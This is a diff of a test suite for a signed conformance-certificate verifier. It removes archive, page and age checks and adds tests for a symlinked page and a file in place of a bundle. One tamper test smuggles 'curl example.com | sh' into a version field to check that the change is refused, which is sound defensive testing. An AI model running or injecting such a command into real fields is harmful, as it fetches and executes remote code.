@@ -1,11 +1,10 @@
-import { readFileSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
+import { readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { gunzipSync, gzipSync } from 'node:zlib';
 import { beforeAll, describe, expect, test } from 'vitest';
 import { CERTIFICATE_PAGE, EVIDENCE_FILE, REPORT_FILE, STATEMENT_FILE } from '../../certificate/bundle.js';
 import { jsonText } from '../../certificate/dsse.js';
 import { keyidOf } from '../../certificate/keys.js';
-import { verify } from '../../certificate/verify.js';
 import { type Line, linesIn, writeLines } from '../evidence/recorded.js';
 import { problemsOf, validatorOf } from '../schemas/schema-validator.js';
 import { bundle, copyOf, honestRun, newSigner, refusalsOf, restate, state, statementIn, verified } from './bundle.js';
@@ -15,13 +14,12 @@ import { bundle, copyOf, honestRun, newSigner, refusalsOf, restate, state, state
 const FILE_NAMES = [STATEMENT_FILE, REPORT_FILE, EVIDENCE_FILE] as const;
 const [vendor, stranger] = [newSigner(), newSigner()];
 let signed: string;
-let archive: string;
 let unsigned: string;
 
 beforeAll(async () => {
   signed = await honestRun();
   unsigned = copyOf(signed);
-  archive = await bundle(signed, vendor);
+  await bundle(signed, vendor);
   await bundle(unsigned);
 });
 
@@ -36,41 +34,25 @@ function change(directory: string, by: (statement: Line) => void = () => undefin
   return state(directory, JSON.stringify(statement));
 }
 
-test('a bundle is verified as a directory and as an archive, and the result keeps to its schema', async () => {
+test('a bundle is verified, and the result keeps to its schema', async () => {
   const validate = validatorOf('schemas/verification.schema.json');
-  for (const path of [signed, archive]) {
-    const verification = await verified(path, { trusted: [vendor.publicKey] });
-    expect(verification).toMatchObject({ result: 'verified', verified: true, class: 'self-attested' });
-    expect(problemsOf(validate, verification)).toEqual([]);
-  }
+  const verification = await verified(signed, { trusted: [vendor.publicKey] });
+  expect(verification).toMatchObject({ result: 'verified', verified: true, class: 'self-attested' });
+  expect(problemsOf(validate, verification)).toEqual([]);
   const derived = await verified(unsigned);
   expect(problemsOf(validate, derived)).toEqual([]);
   expect(derived).toMatchObject({ result: 'derived', verified: false });
   expect(problemsOf(validatorOf('schemas/statement.schema.json'), statementIn(signed))).toEqual([]);
 });
 
-/** Puts the page for people beside a bundle, as `certify` does. */
-async function addPage(directory: string, change = (page: string) => page): Promise<void> {
-  const { page = '' } = await verify(directory, { trusted: [], now: Date.now() });
-  write(directory, CERTIFICATE_PAGE, change(page));
-}
-
-test('the page beside a bundle is made again, wherever that lies and whoever looks; the checks say whether it was there', async () => {
-  const told = async (directory: string, options = {}) =>
-    (await verified(directory, options)).checks
-      .filter(({ check }) => check === 'files' || check === 'page')
-      .map(({ message }) => message);
-  expect(await told(signed)).toEqual(['Statement, report and evidence, and nothing else.']);
-  for (const bundle of [signed, unsigned]) {
-    const directory = copyOf(bundle);
-    await addPage(directory);
-    for (const options of [{}, { trusted: [vendor.publicKey] }, { programmes: [vendor.publicKey] }]) {
-      expect(await told(directory, options)).toEqual([
-        'Statement, report, evidence and certificate.html, and nothing else.',
-        'certificate.html is the page that follows from the bundle, to the byte.',
-      ]);
-    }
-  }
+test('a page beside a bundle is not read, whatever it says', async () => {
+  const directory = copyOf(signed);
+  symlinkSync('/dev/zero', join(directory, CERTIFICATE_PAGE));
+  expect(await verified(directory)).toMatchObject({ result: 'derived', class: 'self-attested' });
+  expect(await verified(directory, { programmes: [vendor.publicKey] })).toMatchObject({
+    result: 'verified',
+    class: 'programme-run',
+  });
 });
 
 test('a bundle of another version is checked by that version', async () => {
@@ -79,7 +61,7 @@ test('a bundle of another version is checked by that version', async () => {
   writeLines(directory, [{ ...header, tool: { ...header.tool, version: '0.0.9' } }, ...rest]);
   await bundle(directory);
   expect(await refusalsOf(directory)).toMatch(
-    /^version: Version 0\.0\.9 made it.* `npx store-orders-conformance@0\.0\.9 verify`\.$/,
+    /^version: Version 0\.0\.9 made it, and this is .* Check it with version 0\.0\.9\.$/,
   );
 });
 
@@ -112,16 +94,6 @@ describe('a change is refused, and the message names it', () => {
       /^digests: report.json was changed/,
       (at) => write(at, REPORT_FILE, String(read(at, REPORT_FILE)).replace('"verdict": "pass"', '"verdict": "warn"')),
     ],
-    [
-      'a class in the page',
-      /^page: certificate\.html is not the page that follows from the bundle\.$/,
-      (at) => addPage(at, (page) => page.replace('conformant, self-attested', 'conformant, programme-run')),
-    ],
-    [
-      'a page that is a link',
-      /^files: certificate\.html is not a regular file/,
-      (at) => symlinkSync(join(signed, REPORT_FILE), join(at, CERTIFICATE_PAGE)),
-    ],
     ['the signature removed', /^signature: The statement names a key, but has no signature/, (at) => change(at)],
     [
       'the signature of another statement',
@@ -152,6 +124,14 @@ describe('a change is refused, and the message names it', () => {
           predicate.conformance.tool.version = '0.1.0; curl example.com | sh';
         }),
     ],
+    [
+      'a file in its place',
+      /^files: It is not a directory\. Unpack an archive first\.$/,
+      (at) => {
+        rmSync(at, { recursive: true });
+        write(at, '', 'an archive');
+      },
+    ],
     ['bytes after the envelope', /^envelope: /, (at) => write(at, STATEMENT_FILE, `${read(at, STATEMENT_FILE)} `)],
   ];
 
@@ -173,24 +153,6 @@ describe('a change is refused, and the message names it', () => {
       result: 'derived',
       signature: { state: 'unsigned' },
     });
-  });
-
-  const day = 86_400_000;
-  test.each([
-    ['too old', /^age: The run began at .*, 8 days ago; at most 7/, { now: Date.now() + 8.5 * day, maxAgeDays: 7 }],
-    ['of the future', /^age: The run began at .* in the future/, { now: Date.now() - day }],
-  ])('%s', async (_what, expected, options) => {
-    expect(await refusalsOf(signed, options)).toMatch(expected);
-  });
-
-  test.each([
-    ['2001-01-01T00:00:00.000Z', 'before its run had ended'],
-    ['2099-01-01T00:00:00.000Z', 'which is in the future'],
-    ['2026-13-45T00:00:00.000Z', 'which is not an instant'],
-  ])('issued at %s, %s', async (issuedAt, what) => {
-    const directory = copyOf(signed);
-    await bundle(directory, vendor, { issuedAt });
-    expect(await refusalsOf(directory)).toContain(`age: It says that it was issued at ${issuedAt}, ${what}.`);
   });
 
   /** Changes the evidence, and makes report, statement and signature from it. */
